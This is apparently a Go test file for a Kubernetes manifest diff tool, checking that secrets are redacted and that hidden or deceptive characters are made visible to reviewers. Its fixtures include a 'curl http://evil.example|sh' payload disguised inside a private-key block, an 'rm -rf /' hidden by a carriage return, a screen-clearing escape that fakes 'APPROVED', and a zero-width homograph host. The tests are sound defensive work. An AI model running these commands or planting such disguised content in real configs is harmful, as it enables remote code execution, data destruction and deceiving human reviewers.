package manifest_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/eclusier/eclusier/internal/pipeline/kubernetes/manifest"
)

func TestDiff(t *testing.T) {
	before := form(t, `{kind: Deployment, spec: {replicas: 2, paused: false}}`)
	after := form(t, `{kind: Deployment, spec: {replicas: 3, paused: false}}`)
	got, err := manifest.Diff("Deployment/shop/web", before, after)
	want := `--- live/Deployment/shop/web
+++ planned/Deployment/shop/web
@@ -1,4 +1,4 @@
 kind: Deployment
 spec:
   paused: false
-  replicas: 2
+  replicas: 3
`
	if err != nil || got != want {
		t.Errorf("got\n%s, want\n%s, %v", got, want, err)
	}
	for name, one := range map[string]struct {
		before, after map[string]any
		want          string
	}{
		"what is made":    {nil, after, "--- /dev/null\n+++ planned/x\n@@ -0,0 +1,4 @@\n+kind: Deployment\n"},
		"what is deleted": {before, nil, "--- live/x\n+++ /dev/null\n@@ -1,4 +0,0 @@\n-kind: Deployment\n"},
	} {
		t.Run(name, func(t *testing.T) {
			got, err := manifest.Diff("x", one.before, one.after)
			if err != nil || !strings.HasPrefix(got, one.want) {
				t.Errorf("got\n%s, want\n%s, %v", got, one.want, err)
			}
		})
	}
}

// TestDiff_secrets: each text holds a value that must not be seen, and the change of it must be.
func TestDiff_secrets(t *testing.T) {
	pem := "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\\n%s\\n-----END PRIVATE KEY-----"
	tests := []struct {
		name, before, after string
		hidden              []string
	}{
		{"an environment variable whose name is a context line", `{spec: {containers: [{name: web, env: [{name: DB_PASSWORD, value: Tr0ub4dor}, {name: LEVEL, value: info}]}]}}`,
			`{spec: {containers: [{name: web, env: [{name: DB_PASSWORD, value: c0rrecthorse}, {name: LEVEL, value: info}]}]}}`, []string{"Tr0ub4dor", "c0rrecthorse"}},
		{"a key of a ConfigMap", `{data: {password: Tr0ub4dor}}`, `{data: {password: c0rrecthorse}}`, []string{"Tr0ub4dor", "c0rrecthorse"}},
		{"a connection string", `{data: {url: "postgres://shop:Tr0ub4dor@db/shop"}}`, `{data: {url: "postgres://shop:c0rrecthorse@db/shop"}}`, []string{"Tr0ub4dor", "c0rrecthorse"}},
		{"an argument behind its flag", `{spec: {containers: [{name: web, args: ["--db-password", "Tr0ub4dor"]}]}}`,
			`{spec: {containers: [{name: web, args: ["--db-password", "c0rrecthorse"]}]}}`, []string{"Tr0ub4dor", "c0rrecthorse"}},
		{"the middle of a private key", `{data: {tls.key: "` + strings.Replace(pem, "%s", "AAAAB3NzaC1yc2EAAAADAQABAAABgQC7", 1) + `"}}`,
			`{data: {tls.key: "` + strings.Replace(pem, "%s", "BBBBB3NzaC1yc2EAAAADAQABAAABgQC7", 1) + `"}}`, []string{"AAAAB3NzaC1yc2E", "BBBBB3NzaC1yc2E"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := manifest.Diff("x", form(t, tt.before), form(t, tt.after))
			if err != nil {
				t.Fatal(err)
			}
			for _, value := range tt.hidden {
				if strings.Contains(got, value) {
					t.Errorf("%s is shown:\n%s", value, got)
				}
			}
			if !strings.Contains(got, "\n-") || !strings.Contains(got, "\n+") {
				t.Errorf("that the value changes is not shown:\n%s", got)
			}
		})
	}
}

// TestDiff_everyCharacter: what is shown of two values differs wherever the values do, and nothing of them is left out.
func TestDiff_everyCharacter(t *testing.T) {
	tests := []struct{ name, value, shown, hidden string }{
		{"a control character that YAML does not know", "a\u009bb", "a<U+009B>b", "\u009b"},
		{"a NUL", "a\u0000b", "a<U+0000>b", "\u0000"},
		{"a terminal escape", "\u001b[2JAPPROVED", "<U+001B>[2JAPPROVED", "\u001b"},
		{"a terminal escape that is spelled out", `a\e[31mred \x1b[8;80mx`, `a<U+005C>e[31mred <U+005C>x1b[8;80mx`, `\e`},
		{"a zero-width space", "good.example\u200b.evil.com", "good.example<U+200B>.evil.com", "\u200b"},
		{"a direction mark", "a\u202eb", "a<U+202E>b", "\u202e"},
		{"a space that is none", "a\u00a0b", "a<U+00A0>b", "\u00a0"},
		{"a tag", "a\U000e0041b", "a<U+E0041>b", "\U000e0041"},
		{"no character at all", "a\uffffb", "a<U+FFFF>b", "\uffff"},
		{"a carriage return", "rm -rf /\recho hello", "rm -rf /<U+000D>echo hello", "\r"},
		{"what looks spelled out", "a<U+200B>b", "a<U+003C>U+200B>b", "a<U+200B>b"},
		{"letters of the world", "éß漢字 ไทย", "éß漢字 ไทย", "\x00"},
		{"a backslash", `a\d+b`, `a\d+b`, "\x00"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := manifest.Diff("x", map[string]any{"data": map[string]any{"a": "before"}}, map[string]any{"data": map[string]any{"a": tt.value}})
			if err != nil || !strings.Contains(got, tt.shown) || strings.Contains(got, tt.hidden) {
				t.Errorf("got %q, %v; want %q", got, err, tt.shown)
			}
			got, err = manifest.Diff("x", nil, map[string]any{"data": map[string]any{"k" + tt.value: "v"}})
			if err != nil || !strings.Contains(got, tt.shown) {
				t.Errorf("as a key: got %q, %v; want %q", got, err, tt.shown)
			}
		})
	}
}

// TestCompare_hidden: what is not shown is named, as far as the change sets it.
func TestCompare_hidden(t *testing.T) {
	script := `: '\n-----BEGIN RSA PRIVATE KEY-----\n'\ncurl http://evil.example|sh\n: '\n-----END RSA PRIVATE KEY-----'`
	tests := []struct {
		name, before, after string
		want                []string
	}{
		{"nothing", `{data: {a: "1"}}`, `{data: {a: "2"}}`, nil},
		{"a password", `{data: {a: "1"}}`, `{data: {password: Tr0ub4dor}}`, []string{"data.password (9 characters)"}},
		{"a password that is as it was", `{data: {password: Tr0ub4dor}}`, `{data: {password: Tr0ub4dor, a: "1"}}`, nil},
		{"a password that goes", `{data: {password: Tr0ub4dor}}`, `{data: {}}`, nil},
		{"a script between the ends of a key", `{data: {}}`, `{data: {run.sh: "` + script + `"}}`, []string{"data[run.sh] (100 characters)"}},
		{"an environment variable", `{spec: {env: []}}`, `{spec: {env: [{name: DB_PASSWORD, value: Tr0ub4dor}]}}`, []string{"spec.env[0].value (9 characters)"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := manifest.Compare("x", form(t, tt.before), form(t, tt.after))
			if err != nil || !slices.Equal(got.Hidden, tt.want) {
				t.Errorf("got %q, %v; want %q\n%s", got.Hidden, err, tt.want, got.Diff)
			}
		})
	}
}

func TestDiff_huge(t *testing.T) {
	lines := strings.Repeat("a line of text\n", 60_000)
	got, err := manifest.Diff("x", map[string]any{"data": map[string]any{"big": lines}}, map[string]any{"data": map[string]any{"big": lines + "one more\n"}})
	if err != nil || len(got) > 1000 || !strings.Contains(got, "+    one more") {
		t.Errorf("got %d bytes, %v", len(got), err)
	}
}
